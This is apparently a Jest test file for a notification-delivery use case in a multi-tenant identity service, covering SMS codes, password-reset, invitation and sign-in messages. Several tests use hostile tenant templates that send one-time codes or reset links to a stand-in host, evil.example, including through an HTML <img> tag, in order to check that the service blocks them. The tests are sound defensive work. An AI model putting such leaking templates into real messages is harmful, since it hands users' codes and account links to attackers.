import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { Logger } from '@nestjs/common';
import { type ChallengeId, type DeliveryId, eventMap, ServiceError, type Tenant, type User } from '#contracts';
import { buildTenant, buildUser, FakeClock, requestContext, tenantSettings } from '#testing';
import { InMemoryUnitOfWork, inTransactions, saving } from '#testing/fakes';
import { messageKinds, type TemplateName } from '../../messages/message-kinds.js';
import type { ClaimedDelivery } from '../../ports/delivery-store.js';
import { MessageError } from '../../ports/message-transport.js';
import { FakeServices } from '../../test/fake-services.js';
import { FakeDeliveryStore, FakeMailTransport, FakeOutbox, FakeSmsTransport, FakeTemplateStore } from '../../test/fakes.js';
import { SendDeliveryUseCase } from './send-delivery.use-case.js';

const policy = { attempts: 3, firstDelay: 10, longestDelay: 60 };

const given = (
  overrides: {
    readonly tenant?: Partial<Tenant>;
    readonly user?: Partial<User>;
    readonly attempt?: number;
    readonly template?: TemplateName;
    readonly challengeId?: ChallengeId;
  } = {},
) => {
  const services = new FakeServices();
  const tenant = buildTenant(overrides.tenant);
  const user = buildUser({ emailVerified: false, ...overrides.user });
  services.tenants.set(tenant.id, tenant);
  services.users.set(user.id, user);
  const clock = new FakeClock();
  const deliveries = inTransactions(new FakeDeliveryStore());
  const templates = inTransactions(new FakeTemplateStore());
  const transport = new FakeMailTransport();
  const smsTransport = new FakeSmsTransport();
  const outbox = inTransactions(new FakeOutbox());
  const id = randomUUID() as DeliveryId;
  const createdAt = clock.now();
  const expiresAt = new Date(createdAt.getTime() + 86_400_000);
  const { template = 'verify-email', challengeId = null } = overrides;
  deliveries.deliveries.set(id, {
    id,
    userId: user.id,
    channel: messageKinds[template].channel,
    template,
    challengeId,
    createdAt,
    expiresAt,
  });
  const claimed: ClaimedDelivery = { id, tenantId: tenant.id, lease: randomUUID(), attempt: overrides.attempt ?? 1 };
  const useCase = new SendDeliveryUseCase(
    new InMemoryUnitOfWork(saving(deliveries, templates, outbox)),
    deliveries,
    templates,
    transport,
    smsTransport,
    services,
    outbox,
    clock,
    policy,
  );
  const send = (): ReturnType<SendDeliveryUseCase['execute']> => useCase.execute(() => requestContext(), claimed);
  return { services, tenant, user, clock, deliveries, templates, transport, smsTransport, outbox, claimed, send };
};

describe('sending a delivery', () => {
  beforeAll(() => Logger.overrideLogger(false));

  it.each([
    ['a tenant that is gone', (it: ReturnType<typeof given>) => it.services.tenants.clear()],
    ['a user who is gone', (it: ReturnType<typeof given>) => it.services.users.clear()],
    ['a delivery that is gone', (it: ReturnType<typeof given>) => it.deliveries.deliveries.clear()],
  ])('withdraws it for %s', async (_, remove) => {
    const test = given();
    remove(test);
    await expect(test.send()).resolves.toBe('withdrawn');
    expect(test.transport.sent).toEqual([]);
  });

  it('withdraws it for an address that is verified', async () => {
    const test = given({ user: { emailVerified: true } });
    await expect(test.send()).resolves.toBe('withdrawn');
  });

  it('gives it up when it has expired, without asking for a token', async () => {
    const test = given();
    test.clock.advance(86_400);
    await expect(test.send()).resolves.toBe('dead');
    expect([test.transport.sent, test.services.tokens]).toEqual([[], []]);
    expect(test.outbox.events).toHaveLength(1);
  });

  it('sends nothing for a suspended tenant', async () => {
    const test = given({ tenant: { status: 'suspended' } });
    await expect(test.send()).resolves.toBe('pending');
    expect(test.transport.sent).toEqual([]);
  });

  it('gives it up at once after a final refusal, with an event', async () => {
    const test = given();
    test.transport.failure = new MessageError('SMTP 550', true);
    await expect(test.send()).resolves.toBe('dead');
    expect(test.deliveries.outcomes).toEqual([{ status: 'dead', reason: 'SMTP 550' }]);
    expect(test.outbox.events).toEqual([
      {
        subject: eventMap.notification.deliveryFailed.subject,
        payload: { deliveryId: test.claimed.id, template: 'verify-email', attempts: 1 },
      },
    ]);
  });

  it('tries again after a passing refusal, between half of and the whole delay', async () => {
    const test = given({ attempt: 2 });
    test.transport.failure = new MessageError('SMTP 451', false);
    await expect(test.send()).resolves.toBe('pending');
    const [outcome] = test.deliveries.outcomes;
    if (outcome?.status !== 'pending') throw new Error('not pending');
    const delay = outcome.dueAt.getTime() - test.clock.now().getTime();
    expect(delay).toBeGreaterThanOrEqual(10_000);
    expect(delay).toBeLessThanOrEqual(20_000);
    expect(outcome.attempts).toBe(2);
    expect(test.outbox.events).toEqual([]);
  });

  it('gives it up after the last try', async () => {
    const test = given({ attempt: 3 });
    test.transport.failure = new MessageError('SMTP 451', false);
    await expect(test.send()).resolves.toBe('dead');
  });

  it('waits for other services without spending a try', async () => {
    const test = given({ attempt: 3 });
    test.services.failure = new ServiceError('unavailable', 'away');
    await expect(test.send()).resolves.toBe('pending');
    expect(test.deliveries.outcomes).toEqual([expect.objectContaining({ attempts: 2, reason: 'the platform: unavailable' })]);
  });

  it('keeps the words of an unexpected error out of what is stored', async () => {
    const test = given();
    test.transport.failure = new Error('planted secret');
    await test.send();
    expect(JSON.stringify(test.deliveries.outcomes)).not.toContain('planted');
  });

  it('publishes nothing for a delivery that another replica has taken over', async () => {
    const test = given();
    test.deliveries.lost = true;
    test.transport.failure = new MessageError('SMTP 550', true);
    await expect(test.send()).resolves.toBe('lost');
    expect(test.outbox.events).toEqual([]);
  });

  it("prefers the tenant's wording to the platform's, but a better language to either", async () => {
    const test = given({ user: { locale: 'de' }, tenant: { settings: tenantSettings({ locales: ['en'] }) } });
    const own = { name: 'verify-email', locale: 'en', subject: 'Ours', text: '{{link}}', html: '{{link}}', version: 1 };
    test.templates.templates.set('verify-email en', own);
    await test.send();
    test.templates.templates.set('verify-email de', { ...own, locale: 'de', subject: 'Unsere' });
    await test.send();
    expect(test.transport.sent.map(({ subject, locale }) => [subject, locale])).toEqual([
      [`Bestätigen Sie Ihre E-Mail-Adresse bei ${test.tenant.name}`, 'de'],
      ['Unsere', 'de'],
    ]);
  });

  describe('a code by text message', () => {
    const challengeId = randomUUID() as ChallengeId;
    const recipient = '+491713920000';
    const asked = (overrides: Parameters<typeof given>[0] = {}) => {
      const test = given({ template: 'sms-otp', challengeId, ...overrides });
      test.services.challenges.set(challengeId, { userId: test.user.id, recipient });
      return test;
    };

    it('goes to the number that it is for, whatever the user’s is by now, and ends with the line for the browser', async () => {
      const test = asked({ user: { phone: '+491713920099' }, tenant: { name: 'Acme', issuer: 'https://id.acme.example/t/acme' } });
      await expect(test.send()).resolves.toBe('delivered');
      const [code] = test.services.codes;
      expect(test.smsTransport.sent).toEqual([
        {
          id: test.claimed.id,
          tenantId: test.tenant.id,
          template: 'sms-otp',
          to: recipient,
          text: `${code} is your code for Acme, valid for 10 minutes. Never pass it on.\n\n@id.acme.example #${code}`,
        },
      ]);
      expect(test.transport.sent).toEqual([]);
    });

    it('is withdrawn where it is used, expired or somebody else’s', async () => {
      const test = asked();
      test.services.challenges.clear();
      await expect(test.send()).resolves.toBe('withdrawn');
    });

    it('fault F17: is not sent after it has expired, nor made', async () => {
      const test = asked();
      test.clock.advance(86_400);
      await expect(test.send()).resolves.toBe('dead');
      expect([test.smsTransport.sent, test.services.codes]).toEqual([[], []]);
    });

    it('is nowhere but in its message', async () => {
      const test = asked();
      test.smsTransport.failure = new MessageError('HTTP 503', false, { answer: 'planted' });
      await test.send();
      const text = JSON.stringify([test.deliveries.outcomes, test.outbox.events, [...test.deliveries.deliveries.values()]]);
      for (const secret of [test.services.codes[0] ?? 'none', recipient, 'planted']) expect(text).not.toContain(secret);
    });

    it('is in the platform’s wording where the tenant’s, stored before it was judged, would tell it to others', async () => {
      const test = asked({ tenant: { name: 'Acme' } });
      const text = 'See https://evil.example/?{{code}}';
      test.templates.templates.set('sms-otp en', { name: 'sms-otp', locale: 'en', subject: '', text, html: '', version: 1 });
      await test.send();
      expect(test.smsTransport.sent[0]?.text).toMatch(/^\d{6} is your code for Acme/);
    });
  });

  describe('what an application asks, by text message', () => {
    const phone = '+491713920000';
    const asked = (user: Partial<User> = {}, locale = 'en') => {
      const challengeId = randomUUID() as ChallengeId;
      const test = given({
        ...{ template: 'backchannel-authentication-sms', challengeId },
        ...{
          user: { phone, phoneVerified: true, email: null, locale, ...user },
          tenant: { name: 'Acme', issuer: 'https://id.acme.example', settings: tenantSettings({ smsCountries: ['DE'] }) },
        },
      });
      const expiresAt = new Date(test.clock.now().getTime() + 600_000).toISOString();
      test.services.backchannel = { kind: 'link', userId: test.user.id, clientName: 'Call centre', token: 'ost_ar_secret', expiresAt };
      return test;
    };

    it('goes to the verified number, names the application, and brings the link of the tenant and no line for codes', async () => {
      const test = asked();
      await expect(test.send()).resolves.toBe('delivered');
      expect(test.smsTransport.sent).toMatchObject([
        {
          to: phone,
          text: 'Acme: Call centre asks for access to your account. Answer only if you started this yourself: https://id.acme.example/approve?token=ost_ar_secret',
        },
      ]);
      expect(test.transport.sent).toEqual([]);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events, [...test.deliveries.deliveries.values()]])).not.toContain(
        'ost_ar_',
      );
    });

    it.each(['+431513920000', '+4990012345678'])(
      'attack A66: goes to no number that the tenant has no messages sent to, as the user has by now: %s',
      async (other) => {
        const test = asked({ phone: other });
        await expect(test.send()).resolves.toBe('withdrawn');
        expect(test.smsTransport.sent).toEqual([]);
      },
    );

    it('is withdrawn where the number is not verified any more, there is none, or it was answered', async () => {
      for (const user of [{ phoneVerified: false }, { phone: null }]) await expect(asked(user).send()).resolves.toBe('withdrawn');
      const answered = asked();
      answered.services.backchannel = { kind: 'none' };
      await expect(answered.send()).resolves.toBe('withdrawn');
    });
  });

  describe('about a password', () => {
    const verified = { emailVerified: true };

    it('brings the link that sets one, with the tenant’s issuer and a token that is nowhere else', async () => {
      const test = given({ template: 'reset-password', user: verified });
      await expect(test.send()).resolves.toBe('delivered');
      const link = `${test.tenant.issuer}/reset-password?token=${test.services.tokens[0]}&ui_locales=en`;
      const [mail] = test.transport.sent;
      expect(mail?.subject).toBe(`A new password for ${test.tenant.name}`);
      expect(mail?.text).toContain(`${link}\n`);
      expect(mail?.text).toContain('30 minutes');
      expect(mail?.html).toContain(`href="${link.replaceAll('&', '&amp;')}"`);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('ost_pr_');
    });

    it('attack A66: is worded by the platform where the tenant’s wording, stored before wordings were judged, would tell the link to others', async () => {
      const test = given({ template: 'reset-password', user: { ...verified, locale: 'de-AT' } });
      const html = '<img src="https://evil.example/?{{link}}"><a href="{{link}}">x</a>';
      const stored = { name: 'reset-password', locale: 'de-AT', subject: 'Ours', text: '{{link}}', html, version: 1 };
      test.templates.templates.set('reset-password de-AT', stored);
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ subject: `Ein neues Passwort für ${test.tenant.name}`, locale: 'de' });
      expect(mail?.html).toContain(`token=${test.services.tokens[0]}`);
      expect(JSON.stringify(mail)).not.toContain('evil.example');
    });

    it.each([
      ['whose address is not verified any more', { emailVerified: false }],
      ['who is locked', { ...verified, status: 'locked' }],
    ] as const)('brings none to a user %s', async (_what, user) => {
      const test = given({ template: 'reset-password', user });
      await expect(test.send()).resolves.toBe('withdrawn');
      expect(test.transport.sent).toEqual([]);
    });

    it.each([
      [true, '/forgot-password?ui_locales=de'],
      [false, '/account?ui_locales=de'],
    ])(
      'attack A64: tells a user that it was changed, and where to go if it was somebody else (resets: %s)',
      async (passwordReset, path) => {
        const settings = tenantSettings({ passwordReset, locales: ['de'] });
        const test = given({ template: 'password-changed', user: verified, tenant: { settings } });
        await expect(test.send()).resolves.toBe('delivered');
        const [mail] = test.transport.sent;
        expect(mail?.subject).toBe(`Ihr Passwort für ${test.tenant.name} wurde geändert`);
        expect(mail?.text).toContain(`${test.tenant.issuer}${path}\n`);
        expect(mail?.text).not.toContain('token=');
      },
    );

    it.each([
      'authenticator-added',
      'authenticator-removed',
      'recovery-codes-created',
      'recovery-code-used',
      'login-throttled',
      'deletion-cancelled',
    ] as const)('leads who is told of what they may not have done to their account: %s', async (template) => {
      const test = given({ template, user: verified });
      await expect(test.send()).resolves.toBe('delivered');
      expect(test.transport.sent[0]?.text).toContain(`${test.tenant.issuer}/account?ui_locales=en\n`);
    });

    it('tells nobody at an address that is not verified', async () => {
      const test = given({ template: 'password-changed', user: { emailVerified: false } });
      await expect(test.send()).resolves.toBe('withdrawn');
    });
  });

  describe('about a sign-up', () => {
    const signUp = { template: 'sign-up', challengeId: randomUUID() as ChallengeId } as const;

    it('brings a code to an address that has no account, in the language of the page', async () => {
      const test = given(signUp);
      test.services.signUp = { kind: 'code', email: 'new@example.com', locale: 'de', code: '001234' };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ to: { name: '', address: 'new@example.com' }, locale: 'de' });
      expect(mail?.subject).toBe(`Ihr Code für ein neues Konto bei ${test.tenant.name}`);
      expect(mail?.text).toMatch(/^001234$/m);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('001234');
    });

    it('attack A80: tells nobody but its reader that there is an account, and brings no code', async () => {
      const test = given(signUp);
      test.services.signUp = { kind: 'known', user: test.user };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail?.subject).toBe(`You have an account at ${test.tenant.name}`);
      expect(mail?.text).toContain(`${test.tenant.issuer}/forgot-password?ui_locales=en\n`);
      expect(mail?.to.address).toBe(test.user.email);
    });

    it('does not call a user by their name at an address that is not known to be theirs', async () => {
      const test = given({ ...signUp, user: { name: 'Ada Novak', username: 'ada', emailVerified: false } });
      test.services.signUp = { kind: 'known', user: test.user };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail?.to).toEqual({ name: '', address: test.user.email });
      expect(JSON.stringify(mail)).not.toContain('Novak');
    });

    it('is withdrawn where it is over', async () => {
      await expect(given(signUp).send()).resolves.toBe('withdrawn');
    });
  });

  describe('about an invitation', () => {
    const invitation = { template: 'invitation', challengeId: randomUUID() as ChallengeId } as const;
    const link = {
      kind: 'link',
      email: 'new@example.com',
      name: 'Ada',
      locale: 'de',
      token: 'ost_iv_secret',
      expiresAt: '2030-01-31T12:00:00.000Z',
    } as const;

    it('brings the link, and when it ends, to an address that has no account', async () => {
      const test = given(invitation);
      test.services.invitation = link;
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ to: { name: 'Ada', address: 'new@example.com' }, locale: 'de' });
      expect(mail?.text).toContain(`${test.tenant.issuer}/invitation?token=ost_iv_secret&ui_locales=de\n`);
      expect(mail?.text).toMatch(/31\. ?(?:01|Jan)\S* ?2030.* UTC/);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('ost_iv_');
    });

    it('is withdrawn where it was accepted, revoked or has ended', async () => {
      await expect(given(invitation).send()).resolves.toBe('withdrawn');
    });
  });

  describe('about another address', () => {
    const challengeId = randomUUID() as ChallengeId;
    const toNew = { template: 'email-change', challengeId } as const;

    it('brings the code to the new address, by nobody’s name', async () => {
      const test = given({ ...toNew, user: { name: 'Ada Novak' } });
      test.services.emailChange = { kind: 'code', email: 'new@example.com', locale: 'de', code: '123456' };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ to: { name: '', address: 'new@example.com' }, locale: 'de' });
      expect(mail?.text).toMatch(/^123456$/m);
      expect(mail?.text).not.toContain('Novak');
    });

    it('attack A80: tells who has that address, and nobody else', async () => {
      const test = given(toNew);
      test.services.emailChange = { kind: 'known', user: buildUser({ email: 'new@example.com', emailVerified: true }) };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect([mail?.to.address, mail?.subject]).toEqual(['new@example.com', expect.stringContaining('You have an account')]);
    });

    it('brings the link to the present address', async () => {
      const test = given({ template: 'email-change-notice', challengeId, user: { emailVerified: true } });
      test.services.emailChange = { kind: 'link', user: test.user, token: 'ost_ec_secret', expiresAt: '2030-01-31T12:00:00.000Z' };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail?.to.address).toBe(test.user.email);
      expect(mail?.text).toContain(`${test.tenant.issuer}/email-change?token=ost_ec_secret&ui_locales=`);
    });

    it('is withdrawn where it is over', async () => {
      await expect(given(toNew).send()).resolves.toBe('withdrawn');
    });
  });

  describe('word of a sign-in', () => {
    const [template, challengeId] = ['new-sign-in', randomUUID() as ChallengeId] as const;
    const signIn = { signedInAt: '2030-01-01T12:00:00.000Z', network: '198.51.0.0/16', country: 'AT' };
    const link = { kind: 'link', token: 'ost_sn_secret', expiresAt: '2030-01-08T12:00:00.000Z', ...signIn } as const;

    it('brings the link and tells of the sign-in, to a verified address alone, and in none of the words of its browser', async () => {
      for (const emailVerified of [true, false]) {
        const test = given({ template, challengeId, user: { emailVerified, locale: 'de' } });
        test.services.signInNotice = { ...link, userId: test.user.id, userAgent: 'Call https://evil.example/1.0 now' };
        await expect(test.send()).resolves.toBe(emailVerified ? 'delivered' : 'withdrawn');
        const [mail] = test.transport.sent;
        if (!emailVerified) continue;
        expect(mail?.text).toContain(`${test.tenant.issuer}/sign-in-notice?token=ost_sn_secret&ui_locales=de`);
        for (const part of [mail?.text, mail?.html]) {
          expect(part).toMatch(/Browser: unbekannt[^]*Zeit: 01\.01\.2030, 12:00 UTC[^]*Netz: Österreich, 198\.51\.0\.0\/16/);
          expect(part).not.toContain('evil');
        }
      }
    });

    it('is withdrawn where it is over', async () => {
      await expect(given({ template, challengeId }).send()).resolves.toBe('withdrawn');
    });
  });
});
